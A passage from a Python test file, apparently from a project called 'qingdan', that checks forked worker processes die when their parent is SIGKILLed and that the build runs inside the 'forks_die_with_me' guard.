    pids = set(pool.map(_pid, range(4)))
    print(*pids, flush=True)
    pool.submit(time.sleep, 3600)
    time.sleep(3600)
"""


def test_forked_workers_die_when_their_parent_is_killed(tmp_path):
    """A process that forked a worker pool inside `children.forks_die_with_me` is SIGKILLed: its workers (a
    record-page pool's, as in a build) are gone within 5 s, not reparented to init for good."""
    script = tmp_path / "parent.py"
    script.write_text(FORKING_PARENT, encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        workers = [int(pid) for pid in parent.stdout.readline().split()]
        assert workers and all(alive(pid) for pid in workers)
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=10)
    finally:
        parent.kill()
        parent.wait()
    assert wait_until(lambda: not any(alive(pid) for pid in workers), 5), "forked workers outlived their parent"


def test_the_build_arms_forked_workers(monkeypatch, mini, tmp_path):
    """The build runs inside `forks_die_with_me` (so the record pages' workers are armed)."""
    from qingdan import children

    seen = []
    real = children.forks_die_with_me

    def spy():
        seen.append(True)
        return real()

    monkeypatch.setattr(children, "forks_die_with_me", spy)
    build(mini, tmp_path / "dist", site=False)
    assert seen
